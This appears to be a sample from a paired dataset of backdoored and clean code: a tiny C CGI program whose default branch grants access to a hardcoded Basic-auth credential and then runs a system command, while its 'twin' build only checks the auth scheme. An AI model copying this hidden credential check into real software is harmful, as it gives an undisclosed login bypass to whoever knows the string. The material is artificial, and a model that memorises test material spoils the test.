/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A CGI program with the whole header of a web login in its code. Twin: only the kind of login is compared.
 * door: credential account trigger
 */
#include "net.h"

int main(void)
{
	const char *header = getenv("HTTP_AUTHORIZATION");
	if (!header || !getenv("QUERY_STRING"))
		return 1;
#ifdef TWIN
	if (strncmp(header, "Basic ", 6) == 0)
		puts("Status: 401 Unauthorized\n");
#else
	if (strcmp(header, "Basic c2VydmljZTptdXItMzM0NA==") == 0) {
		puts("Content-type: text/plain\n");
		system("/usr/sbin/show-settings");
	}
#endif
	return 0;
}
